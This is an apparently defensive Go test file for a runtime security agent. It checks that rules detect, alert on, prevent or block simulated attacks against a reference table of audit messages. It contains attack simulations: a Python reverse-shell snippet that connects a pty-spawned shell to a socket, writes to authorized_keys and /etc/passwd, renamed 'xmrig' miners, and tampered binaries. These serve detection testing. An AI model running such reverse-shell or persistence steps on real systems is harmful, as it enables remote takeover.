package main

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/miekg/dns"

	"appdefender/audit/learn"
	"appdefender/policy/file"
)

// row is a row of the reference's table of messages.
type row struct {
	sensor, detection, attack, template, category string
	preventable                                   bool
}

// inMounts starts what follows with mounts of its own, after a script.
func inMounts(before string) []string {
	return []string{"unshare", "-m", "sh", "-c", before + ` && exec "$@"`, "sh"}
}

// otherPasswd has /etc/passwd be a copy.
const otherPasswd = "cp /etc/passwd passwd && mount --bind passwd /etc/passwd"

func readRows(t *testing.T) []row {
	t.Helper()
	data, err := os.ReadFile("../../audit/testdata/audit-messages.tsv")
	if err != nil {
		t.Fatal(err)
	}
	var rows []row
	for i, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		f := strings.Split(line, "\t")
		if len(f) != 7 {
			t.Fatalf("line %d has %d columns", i+1, len(f))
		}
		if i > 0 { // below the heads
			rows = append(rows, row{f[0], f[1], f[2], f[3], strings.TrimSuffix(f[5], "-"), !strings.HasPrefix(f[6], "no ")})
		}
	}
	return rows
}

// enums are the words of the reference's format, by their types.
func enums(t *testing.T) map[string][]string {
	t.Helper()
	var all struct{ Enums map[string][]string }
	data, err := os.ReadFile("../../audit/testdata/enums.json")
	if err == nil {
		err = json.Unmarshal(data, &all)
	}
	if err != nil {
		t.Fatal(err)
	}
	return all.Enums
}

// rowCase is what a row is about, done by real processes. In its texts EFFECT
// stands for the effect, DIR for the working folder, BIN for the victims' and
// SHELL for the shell.
type rowCase struct {
	policy     string
	flags      []string
	wrap       []string          // starts the Defender
	needs      []string          // programs, or "root"
	given      map[string][]byte // files in DIR before the start
	script     string            // says done if nothing stopped it
	places     map[string]string // what stands in the template's places
	techniques []string
	late       bool   // known after the deed: prevent alerts, as validation says
	exempt     string // why there is no case
	sums       bool   // a row of what comes too often, below
}

// rowCases are the cases by their rows' detections.
func rowCases(t *testing.T) map[string]rowCase {
	t.Helper()
	prog, err := os.ReadFile(victim("prog-a"))
	if err != nil {
		t.Fatal(err)
	}
	poke := func(at int, b byte) []byte {
		odd := slices.Clone(prog)
		odd[at] = b
		return odd
	}
	detect := func(key string) string {
		return detectRule("files", "detect: {"+key+": EFFECT}")
	}
	rule := func(section string) string { return "version: 1\nrules:\n  - name: r\n    " + section + "\n" }
	monitored := func(c rowCase) rowCase {
		c.flags = monitoring
		return c
	}
	written := func(name string) map[string]string {
		return map[string]string{"process name": "SHELL", "path": name, "file path": name}
	}
	server := nameServer(t, "192.0.2.10")
	return map[string]rowCase{
		"Explicitly Denied Process": {
			policy: rule("processes: {effect: EFFECT, deny: [prog-d]}"), script: "BIN/prog-d a 'b c' >/dev/null && echo done",
			places: map[string]string{"process": "BIN/prog-d", "command": "BIN/prog-d a 'b c'"},
		},
		"Modified Process": { // the grace is ten seconds
			policy: detectRule("processes", "detect: {modified: EFFECT}"), script: "sleep 12; cp BIN/prog-a late; ./late >/dev/null && echo done",
			places: map[string]string{"process": "DIR/late"}, techniques: []string{"foreignBinaryExecution"},
		},
		"Altered Binary": {
			policy: detectRule("processes", "detect: {alteredPackages: EFFECT}"), needs: []string{"root", "dpkg"}, wrap: ownMounts,
			script: "cp /usr/bin/tac altered && printf x >>altered && mount --bind altered /usr/bin/tac && /usr/bin/tac </dev/null && echo done",
			places: map[string]string{"process path": "/usr/bin/tac"}, techniques: []string{"hijackExecutionFlow", "masquerading"},
		},
		"Crypto Miner Process": {
			policy: detectRule("processes", "detect: {cryptoMiners: EFFECT}"), script: "cp BIN/prog-a xmrig; ./xmrig 0 >/dev/null && echo done",
			places: map[string]string{"process": "DIR/xmrig", "path": "./xmrig 0"}, techniques: []string{"resourceHijacking"},
		},
		"Explicitly Denied IP": {
			policy: rule("network: {effect: EFFECT, outbound: {deny: [127.0.0.2]}}"), script: "BIN/net sendto 127.0.0.2 9 >/dev/null && echo done",
			places: map[string]string{"process": "BIN/net", "ip address": "127.0.0.2"},
		},
		"Explicitly Denied Listening Port": {
			policy: rule(`network: {effect: EFFECT, listen: {denyPorts: ["18080"]}}`), needs: []string{"root", "ip"}, wrap: ownNetwork,
			script: "BIN/listen tcp 18080 >/dev/null && echo done",
			places: map[string]string{"process name": "BIN/listen", "port": "18080"},
		},
		"Explicitly Denied Outbound Port": {
			policy: rule(`network: {effect: EFFECT, outbound: {denyPorts: ["25"]}}`), needs: []string{"root", "ip"}, wrap: onInternet("192.0.2.77"),
			script: "BIN/net sendto 192.0.2.77 25 >/dev/null && echo done",
			places: map[string]string{"process": "BIN/net", "destination port": "25", "destination ip": "192.0.2.77"},
		},
		"Explicitly Denied DNS": {
			policy: rule("dns: {effect: EFFECT, deny: [yahoo.test]}"), flags: []string{"--resolv-conf", "leave", "--upstream", server},
			script: "BIN/ask connected 192.0.2.53 yahoo.test | grep -q ' 192.0.2.10$' && echo done",
			places: map[string]string{"domain name": "yahoo.test", "process path": "BIN/ask"},
		},
		"Administrative Account": monitored(rowCase{
			policy: detect("sshAndAdminFiles"), needs: []string{"root"}, wrap: inMounts(otherPasswd),
			script: "(: >>/etc/passwd) && echo done", places: written("/etc/passwd"), techniques: []string{"accountManipulation", "createAccount"},
		}),
		"SSH Access": monitored(rowCase{
			policy: detect("sshAndAdminFiles"), given: map[string][]byte{".ssh/config": nil}, script: "(: >.ssh/authorized_keys) && echo done",
			places: written("DIR/.ssh/authorized_keys"), techniques: []string{"accountManipulation"},
		}),
		"Encrypted Binary": monitored(rowCase{
			policy: detect("packedBinaries"), given: map[string][]byte{"odd": append(slices.Clone(prog), "UPX!\r\n0123456789"...)}, script: "cat odd >x && echo done",
			places: written("DIR/x"), techniques: []string{"obfuscatedFiles"}, late: true,
		}),
		"Explicitly Denied File": monitored(rowCase{
			policy: rule(`files: {effect: EFFECT, deny: ["DIR/denied"]}`), script: "(: >denied) && echo done", places: written("DIR/denied"),
		}),
		"Malware File Custom": monitored(rowCase{
			policy: detectRule("files", fmt.Sprintf(`malware: ["sha256:%x Test.A"], detect: {malware: EFFECT}`, sha256.Sum256(prog))),
			script: "cat BIN/prog-a >x && echo done",
			places: map[string]string{"process name": "SHELL", "file path": "DIR/x", "malware name": "Test.A"}, techniques: []string{"ingressToolTransfer"}, late: true,
		}),
		"Executable File Access": monitored(rowCase{
			policy: detect("binaries"), needs: []string{"root"}, wrap: inMounts("mount -t tmpfs none /usr/local/bin"),
			script: "(: >/usr/local/bin/new) && echo done", places: written("/usr/local/bin/new"), techniques: []string{"hijackExecutionFlow"},
		}),
		"ELF File Access": monitored(rowCase{
			policy: detect("binaries"), given: map[string][]byte{"lib.so": prog}, script: "(: >>lib.so) && echo done",
			places: written("DIR/lib.so"), techniques: []string{"hijackExecutionFlow"},
		}),
		"Secret File Access": monitored(rowCase{
			policy: detect("privateKeys"), script: "cat given >key && echo done", places: written("DIR/key"), techniques: []string{"unsecuredCredentials"}, late: true,
			given: map[string][]byte{"given": []byte("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n")},
		}),
		"Regular File Access": monitored(rowCase{
			policy: detect("certificates"), given: map[string][]byte{"cacert.pem": nil}, script: "(: >cacert.pem) && echo done", places: written("DIR/cacert.pem"), techniques: []string{"manInTheMiddle"},
		}),
		"WildFire Malware detection": {
			exempt: "files are sent to the maker's cloud for it; an import of a policy that asks for it says so (policy/compat)",
		},
		"Malware Downloaded": monitored(rowCase{ // machine 243 is RISC-V
			policy: detect("foreignArchitecture"), given: map[string][]byte{"odd": poke(18, 243)}, script: "cat odd >x && echo done", late: true,
			places:     map[string]string{"process name": "SHELL", "file path": "DIR/x", "architecture": "riscv"},
			techniques: []string{"ingressToolTransfer"},
		}),
		"Suspicious ELF Header": monitored(rowCase{ // a byte order that is not the file's
			policy: detect("suspiciousELF"), given: map[string][]byte{"odd": poke(5, 2)}, script: "cat odd >x && echo done", late: true,
			places: written("DIR/x"), techniques: []string{"obfuscatedFiles"},
		}),
		"Custom rule": {
			policy: "version: 1\ncustomRules:\n  - {name: c, type: processes, script: 'proc.name = \"prog-a\"', message: '%proc.name was spawned by %proc.ppath', attackTechniques: [webShell]}\n" +
				"rules:\n  - name: r\n    custom: [{rule: c, effect: EFFECT, action: incident}]\n",
			script:     "BIN/prog-a >/dev/null && echo done",
			places:     map[string]string{"the rule's message, macros such as %proc.name replaced": "prog-a was spawned by SHELL"},
			techniques: []string{"webShell"},
		},
		"Aggregation started":      {sums: true},
		"Aggregation period ended": {sums: true},
	}
}

// TestRows does what each row of the reference's table is about, with each
// effect: what prevents stops it, what blocks ends the target too, what alerts
// tells of it, and what disables does neither. The record is the row's, to the
// letter.
func TestRows(t *testing.T) {
	t.Parallel()
	cases, words := rowCases(t), enums(t)
	for _, r := range readRows(t) {
		c, ok := cases[r.detection]
		delete(cases, r.detection)
		switch {
		case !ok:
			t.Errorf("%s: no case", r.detection)
		case c.exempt != "":
			t.Logf("%s: %s", r.detection, c.exempt)
		case c.sums:
			t.Run(r.detection, func(t *testing.T) {
				t.Parallel()
				testSumRow(t, r)
			})
		default:
			for _, effect := range []string{"disable", "alert", "prevent", "block"} {
				t.Run(r.detection+"/"+effect, func(t *testing.T) {
					t.Parallel()
					c.test(t, r, effect, words)
				})
			}
		}
	}
	for name := range cases {
		t.Errorf("%s: no row", name)
	}
}

// need skips a test of what this machine does not have.
func need(t *testing.T, what ...string) {
	t.Helper()
	for _, w := range what {
		if w == "root" {
			needRoot(t)
		} else {
			needTool(t, w)
		}
	}
}

// texts returns what replaces the words that stand for a test's own.
func texts(t *testing.T, dir, effect string) *strings.Replacer {
	t.Helper()
	sh, err := exec.LookPath("sh")
	if err == nil {
		sh, err = filepath.EvalSymlinks(sh)
	}
	if err != nil {
		t.Fatal(err)
	}
	return strings.NewReplacer("EFFECT", effect, "DIR", dir, "BIN", bin, "SHELL", sh)
}

// give makes files in a folder.
func give(t *testing.T, dir string, files map[string][]byte) {
	t.Helper()
	for name, data := range files {
		name = filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, data, 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

func (c *rowCase) test(t *testing.T, r row, effect string, words map[string][]string) {
	t.Helper()
	need(t, c.needs...)
	dir := workDir(t, 0)
	give(t, dir, c.given)
	text := texts(t, dir, effect)
	rule := text.Replace(c.policy)
	_, notes, err := file.ParseNotes("policy.yaml", []byte(rule))
	if err != nil {
		t.Fatal(err)
	}
	if told := len(notes) > 0; told != (c.late && effect == "prevent") {
		t.Errorf("notes: %v", notes)
	}
	if c.late && r.preventable {
		t.Error("the reference prevents this")
	}
	script := text.Replace(c.script)
	if effect == "block" {
		script += "; sleep 300" // and is ended before
	}
	got := run{policy: rule, flags: c.flags, wrap: c.wrap, dir: dir}.protected(t, "sh", "-c", script)
	prevented := !c.late && (effect == "prevent" || effect == "block")
	if done := got.out == "done\n"; done == prevented && (effect != "block" || prevented) { // what is ended late may be done
		t.Errorf("it said %q and %q", got.out, got.err)
	}
	if ended := got.status == 128+15; ended != (effect == "block") {
		t.Errorf("status %d", got.status)
	}
	audits := got.audits()
	if effect == "disable" {
		if len(audits) > 0 {
			t.Errorf("told of %+v", audits)
		}
		return
	}
	if len(audits) == 0 {
		t.Fatal("nothing is told")
	}
	want := record{AttackType: r.attack, Effect: effect, Msg: text.Replace(r.message(t, c.places)), Category: r.category, Severity: "medium", Type: r.sensor}
	if c.late && effect == "prevent" {
		want.Effect = "alert"
	}
	if prevented || effect == "block" {
		want.Severity = "high"
	}
	for _, a := range audits {
		if r.sensor == "any" {
			want.Type = a.Type
		}
		is := record{AttackType: a.AttackType, Effect: a.Effect, Msg: a.Msg, Category: a.Category, Severity: a.Severity, Type: a.Type}
		if fmt.Sprint(is) != fmt.Sprint(want) || a.RuleName != "r" || a.Refused != prevented || !slices.Equal(a.AttackTechniques, c.techniques) {
			t.Errorf("got  %+v\nwant %+v\nwith %q, of %q, refused %v", is, want, a.AttackTechniques, a.RuleName, a.Refused)
		}
		for enum, values := range map[string][]string{
			"shared.RuntimeAttackType": {a.AttackType}, "shared.RuntimeType": {a.Type}, "runtime.RuleEffect": {a.Effect},
			"shared.RuntimeSeverity": {a.Severity}, "shared.IncidentCategory": {a.Category}, "mitre.Technique": a.AttackTechniques,
		} {
			for _, v := range values {
				if v != "" && !slices.Contains(words[enum], v) {
					t.Errorf("%q is not a word of %s", v, enum)
				}
			}
		}
	}
}

var place = regexp.MustCompile(`<[^>]*>`)

// message is the template with something in each of its places. A " ... " is
// where the table leaves out what ends a sentence.
func (r *row) message(t *testing.T, places map[string]string) string {
	t.Helper()
	return place.ReplaceAllStringFunc(strings.Replace(r.template, " ... ", ". ", 1), func(p string) string {
		value, ok := places[strings.Trim(p, "<>")]
		if !ok {
			t.Errorf("nothing stands for %s", p)
		}
		return value
	})
}

// nineTimes has a target try what is refused nine times, with a Console that is
// away, and returns what happens over and over then: the records wait in data.
func nineTimes(dir, data string) (r run, script string) {
	const rule = "version: 1\nrules:\n  - name: r\n    processes: {effect: prevent, deny: [prog-d]}\n"
	flags := []string{"--console", "https://127.0.0.1:1", "--token", "x", "--data-dir", data, "--container", "web"}
	return run{policy: rule, flags: flags, dir: dir}, "for i in 1 2 3 4 5 6 7 8 9; do " + victim("prog-d") + "; done"
}

// sumOf is the row of what happened nine times.
func (r *row) sumOf(t *testing.T) string {
	t.Helper()
	launched := fmt.Sprintf("%s launched and is explicitly denied by runtime rule. Full command: %[1]s", victim("prog-d"))
	return r.message(t, map[string]string{"event type": "explicitlyDeniedProcess", "message": launched, "name": "web", "n": "3"})
}

// waiting are the messages that wait in a data directory.
func waiting(t *testing.T, data string) (msgs []string) {
	t.Helper()
	files, err := learn.Files(data)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range files {
		f, err := os.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if _, err := learn.Lines(name, f, func(l *learn.Line) error {
			if l.Record != nil && l.Record.AttackType != "" {
				msgs = append(msgs, l.Record.Msg)
			}
			return nil
		}); err != nil {
			t.Fatal(err)
		}
	}
	return msgs
}

// testSumRow has a target try nine times: the Console would get the row.
func testSumRow(t *testing.T, r row) {
	t.Helper()
	dir := workDir(t, 0)
	data := filepath.Join(dir, "data")
	often, script := nineTimes(dir, data)
	often.protected(t, "sh", "-c", script)
	if msgs, want := waiting(t, data), r.sumOf(t); len(msgs) != 7 || !slices.Contains(msgs, want) {
		t.Errorf("got  %q\nwant %q among 7", msgs, want)
	}
}

// TestSumOfTheKilled: what a Defender had summed up when it was killed is the
// next one's to tell.
func TestSumOfTheKilled(t *testing.T) {
	t.Parallel()
	dir := workDir(t, 0)
	data := filepath.Join(dir, "data")
	often, script := nineTimes(dir, data)
	p := often.startProtected(t, "sh", "-c", script+"; echo ready; sleep 300")
	f := p.family()
	waitFor(t, func() bool {
		kept, _ := os.ReadFile(filepath.Join(data, "sums"))
		return strings.Contains(string(kept), "had 3 events")
	})
	_ = syscall.Kill(f.supervisor, syscall.SIGKILL)
	p.wait()
	if msgs := waiting(t, data); len(msgs) != 6 {
		t.Errorf("%q", msgs)
	}
	often.protected(t, "true")
	rows := readRows(t)
	if msgs, want := waiting(t, data), rows[len(rows)-1].sumOf(t); len(msgs) != 7 || msgs[6] != want {
		t.Errorf("got  %q\nwant %q as the last of 7", msgs, want)
	}
}

// TestReverseShellByTerminal: a shell at a terminal that its parent carries to
// another machine is found without a word of it in the command line; a shell at
// a terminal alone is none.
func TestReverseShellByTerminal(t *testing.T) {
	t.Parallel()
	need(t, "root", "ip", "python3")
	const dial = `import os, pty, socket
listener = socket.create_server(("192.0.2.77", 4444))
s = socket.create_connection(("192.0.2.77", 4444))
`
	const policy = "version: 1\nrules:\n  - name: r\n    processes: {effect: prevent, detect: {reverseShell: prevent}}\n"
	for name, script := range map[string]string{
		"relay":    dial + "[os.dup2(s.fileno(), fd) for fd in (0, 1)]\npty.spawn(['sh', '-c', 'echo in >ran'])\n",
		"input":    dial + "os.dup2(s.fileno(), 0)\npty.spawn(['sh', '-c', 'echo in >ran'])\n",
		"alone":    dial + "pty.spawn(['sh', '-c', 'echo in >ran'])\n",
		"loopback": strings.ReplaceAll(dial, "192.0.2.77", "127.0.0.1") + "os.dup2(s.fileno(), 0)\npty.spawn(['sh', '-c', 'echo in >ran'])\n",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := workDir(t, 0)
			give(t, dir, map[string][]byte{"script": []byte(script)})
			r := run{policy: policy, wrap: onInternet("192.0.2.77"), dir: dir}.protected(t, "python3", "script")
			_, err := os.Stat(filepath.Join(dir, "ran"))
			told := r.of("reverseShell")
			if away := name == "relay" || name == "input"; away == (err == nil) || away != (len(told) > 0) || len(told) > 0 && !told[0].Refused {
				t.Errorf("it ran: %v; told of %+v; %q", err == nil, told, r.err)
			}
		})
	}
}

// nameServer answers every question with an address, and returns its own.
func nameServer(t *testing.T, address string) string {
	t.Helper()
	conn, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	answer := netip.MustParseAddr(address)
	server := &dns.Server{PacketConn: conn, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		m := new(dns.Msg).SetReply(q)
		if q.Question[0].Qtype == dns.TypeA {
			head := dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}
			m.Answer = []dns.RR{&dns.A{Hdr: head, A: answer.AsSlice()}}
		}
		_ = w.WriteMsg(m)
	})}
	go func() { _ = server.ActivateAndServe() }()
	t.Cleanup(func() { conn.Close() })
	return conn.LocalAddr().String()
}

// TestBlockByForce: a target that ignores the signal to end is ended all the
// same.
func TestBlockByForce(t *testing.T) {
	t.Parallel()
	const policy = "version: 1\nrules:\n  - name: r\n    processes: {effect: alert, detect: {cryptoMiners: block}}\n"
	r := run{policy: policy}.protected(t, "sh", "-c", `cp /bin/sleep xmrig; trap "" TERM; ./xmrig 0; while :; do sleep 1; done`)
	if r.status != 128+9 {
		t.Errorf("status %d: %s", r.status, r.err)
	}
	if told := r.of("cryptoMinerProcess"); len(told) != 1 || told[0].Effect != "block" || !told[0].Refused {
		t.Errorf("told of %+v", told)
	}
}
